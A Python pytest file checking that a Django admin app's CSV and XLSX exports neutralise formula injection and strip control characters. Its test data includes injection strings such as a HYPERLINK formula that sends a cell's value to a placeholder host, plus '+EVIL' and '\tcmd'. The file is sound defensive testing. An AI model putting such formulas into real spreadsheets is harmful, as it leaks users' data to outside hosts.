"""Spreadsheet cells (issue 13): what a user typed reaches a CSV or XLSX as data, never as a formula,
and a control character never stops a workbook from being written. The billing exports are tested
in tests/billing/test_exports_safety.py; the approval queue's CSV here, at the end."""

import csv
import datetime as dt
import io
import sys
import unicodedata
from decimal import Decimal

import openpyxl
import pytest
import xlsxwriter
from django.urls import reverse

from dropcopy_admin import clock
from dropcopy_admin.choices import Role
from dropcopy_admin.spreadsheets import (
    SafeWorkbook,
    _RowFile,
    safe_csv_cell,
    safe_csv_row,
    without_control_characters,
)
from tests import factories

FORMULA = '=HYPERLINK("http://x"&B2,"Invoice")'
FORMULA_LIKE = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1"]
CONTROL_CHARACTERS = [
    chr(code)
    for code in range(sys.maxunicode + 1)
    if unicodedata.category(chr(code)) == "Cc" and chr(code) not in "\t\n\r"
]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_csv_text_that_begins_like_a_formula_gets_a_leading_apostrophe(text):
    assert safe_csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Acme Trading", "", "O'Brien & Co", "a=b", "x-1", "user@example.com", "2025-05"])
def test_csv_ordinary_text_is_left_as_it_is(text):
    assert safe_csv_cell(text) == text


def test_control_characters_are_removed_and_tab_line_feed_carriage_return_inside_kept():
    assert len(CONTROL_CHARACTERS) == 62  # C0 but tab, LF and CR; DEL; C1
    for character in CONTROL_CHARACTERS:
        assert without_control_characters(f"Acme{character} Corp") == "Acme Corp"
    assert safe_csv_cell("Acme\u0006 Corp\u000b") == "Acme Corp"
    note = "April over-billed,\nsee ticket\t42\r\nthanks"
    assert safe_csv_cell(note) == note


def test_a_control_character_cannot_hide_a_formula():
    assert safe_csv_cell("\u0006=1+1") == "'=1+1"


def test_csv_numbers_are_written_plainly_even_when_negative():
    numbers = [Decimal("-125.50"), -3, 2.5, Decimal("500.00"), None]
    assert safe_csv_row(numbers) == ["-125.50", "-3", "2.5", "500.00", ""]
    assert safe_csv_cell("-125.50") == "'-125.50"  # text that looks like a number is still text


@pytest.fixture
def read_back():
    """Writes one row of values through a ``SafeWorkbook`` and answers the cells of that row as
    openpyxl reads them back."""

    def write_and_read(values: list) -> tuple:
        out = io.BytesIO()
        with SafeWorkbook(out) as workbook:
            workbook.sheet("cells").append(values)
        return openpyxl.load_workbook(io.BytesIO(out.getvalue())).worksheets[-1][1]

    return write_and_read


def test_xlsx_text_that_begins_like_a_formula_is_a_string_shown_as_typed(read_back):
    cells = read_back(FORMULA_LIKE)

    # A carriage return is stored as OOXML's escape _x000D_ (Excel shows the character, openpyxl
    # leaves the escape); the text is otherwise exactly as typed.
    assert [cell.value for cell in cells] == [*FORMULA_LIKE[:-1], "_x000D_=1+1"]
    assert [cell.data_type for cell in cells] == ["s"] * len(FORMULA_LIKE)  # never "f"
    assert all(cell.quotePrefix for cell in cells)  # Excel keeps it text when the cell is edited


def test_xlsx_text_is_never_an_error_value_and_ordinary_text_has_no_quote_prefix(read_back):
    error_like, ordinary = read_back(["#N/A", "Acme Trading"])

    assert (error_like.value, error_like.data_type) == ("#N/A", "s")
    assert (ordinary.value, ordinary.data_type, ordinary.quotePrefix) == ("Acme Trading", "s", False)


def test_xlsx_control_characters_are_removed_so_the_workbook_saves(read_back):
    (cell,) = read_back(["".join(CONTROL_CHARACTERS) + "Acme\u0006 Corp\u000b\n2nd line"])

    assert cell.value == "Acme Corp\n2nd line"


def test_xlsx_numbers_and_dates_keep_their_types(read_back):
    credit, count, day, moment, empty, aware = read_back(
        [
            Decimal("-125.50"),
            7,
            dt.date(2025, 5, 1),
            dt.datetime(2025, 5, 1, 9, 30),
            None,
            dt.datetime(2025, 5, 1, 9, 30, tzinfo=dt.UTC),
        ]
    )

    assert (credit.value, credit.data_type) == (Decimal("-125.50"), "n")
    assert (count.value, count.data_type) == (7, "n")
    assert (day.value, day.data_type) == (dt.datetime(2025, 5, 1), "d")
    assert (moment.value, moment.data_type) == (dt.datetime(2025, 5, 1, 9, 30), "d")
    assert (aware.value, aware.data_type) == ("2025-05-01T09:30:00+00:00", "s")  # Excel has no time zones
    assert empty.value is None


def test_xlsx_fast_paths_write_the_bytes_of_xlsxwriters_public_methods():
    """``SafeSheet`` calls XlsxWriter's undecorated writers and gives each worksheet a write-only row
    file (``_RowFile``): the workbook is byte for byte the one the public ``write_string`` and
    ``write_number`` write, over two sheets, with text that is quoted, escaped, padded, multi-line
    and non-ASCII, and numbers with and without a format."""
    lines = [
        ["Acme & Sons <Ltd>", "=1+1", Decimal("-125.50"), 7, "  padded  ", "note\n\tsecond\r\nthird", "Zürich €"],
        ["_x0041_ literal", None, Decimal("0.00"), 2.5, "", "B" * 5000, "-credit"],
        ["no\u00a0break", "odd \ufffe\uffff", "x_x", "_X0041_ upper"],
    ]
    totals = [["B0001", "Bench", Decimal("1234567.89"), "USD"]]

    safe = io.BytesIO()
    with SafeWorkbook(safe) as workbook:
        for name, rows, amount in (("lines", lines, 2), ("totals", totals, 2)):
            sheet = workbook.sheet(name)
            for row in rows:
                sheet.append(row, {amount: "0.00"})

    public = io.BytesIO()
    book = xlsxwriter.Workbook(public, {"constant_memory": True, "strings_to_formulas": False})
    book.set_properties({"created": dt.datetime(2000, 1, 1)})
    quoted, cents = book.add_format({"quote_prefix": True}), book.add_format({"num_format": "0.00"})
    for name, rows, amount in (("lines", lines, 2), ("totals", totals, 2)):
        worksheet = book.add_worksheet(name)
        for row_number, row in enumerate(rows):
            for column, value in enumerate(row):
                if isinstance(value, str) and value:
                    worksheet.write_string(row_number, column, value, quoted if value[0] in "=+-@" else None)
                elif value is not None and not isinstance(value, str):
                    worksheet.write_number(row_number, column, value, cents if column == amount else None)
    book.close()

    assert safe.getvalue() == public.getvalue()
    cells = openpyxl.load_workbook(io.BytesIO(safe.getvalue())).worksheets[0][1]
    assert [cell.value for cell in cells] == [
        "Acme & Sons <Ltd>",
        "=1+1",
        Decimal("-125.50"),
        7,
        "  padded  ",
        "note\n\tsecond_x000D_\nthird",  # openpyxl leaves OOXML's escape of the carriage return
        "Zürich €",
    ]


def test_xlsx_the_pinned_xlsxwriter_still_offers_what_the_fast_paths_rely_on():
    """If an XlsxWriter upgrade drops its undecorated writers or changes how it opens the row file,
    ``SafeSheet`` falls back to the public methods and XlsxWriter's own file (correct, but slower):
    this says so before the export benchmark does."""
    with SafeWorkbook(io.BytesIO()) as workbook:
        sheet = workbook.sheet("cells")
        worksheet = sheet._sheet
        assert isinstance(worksheet.row_data_fh, _RowFile) and worksheet.fh is worksheet.row_data_fh
        assert sheet._write_string == worksheet._write_string
        assert sheet._write_number == worksheet._write_number
        assert worksheet.__dict__["_escape_control_characters"].__name__ == "escape_unless_plain"
        assert worksheet.__dict__["_escape_attributes"].__name__ == "escape_unless_number"
        sheet.append(["kept"])


# --- the approval queue's CSV (the portal) -------------------------------------------------------


@pytest.mark.django_db
def test_approval_queue_csv_neutralises_formulas_and_drops_control_characters(client, clearing_user, clearing_firm):
    clock.freeze(dt.datetime(2025, 6, 15, 12, tzinfo=dt.UTC))
    entity = factories.EntityFactory(code="+EVIL", name="@SUM(1+1)\u0006\u000b")
    requester = factories.UserFactory(role=Role.CLIENT, entity=entity, username="-requester")
    gfid = factories.GfidFactory(entity=entity, clearing_firm=clearing_firm, venue=factories.venue("CME"))
    factories.MembershipFactory(
        group=factories.GroupFactory(entity=entity, name=FORMULA),
        source_session=factories.SourceSessionFactory(gfid=gfid),
        requested_by=requester,
        requested_at=clock.now() - dt.timedelta(days=2),
    )
    client.force_login(clearing_user)

    response = client.get(reverse("portal:approval-export"))

    assert response.status_code == 200
    header, row = csv.reader(io.StringIO(response.content.decode(), newline=""))
    cells = dict(zip(header, row, strict=True))
    assert cells["group"] == "'" + FORMULA
    assert cells["entity_code"] == "'+EVIL"
    assert cells["entity_name"] == "'@SUM(1+1)"
    assert cells["requested_by"] == "'-requester"
    assert cells["age_days"] == "2"
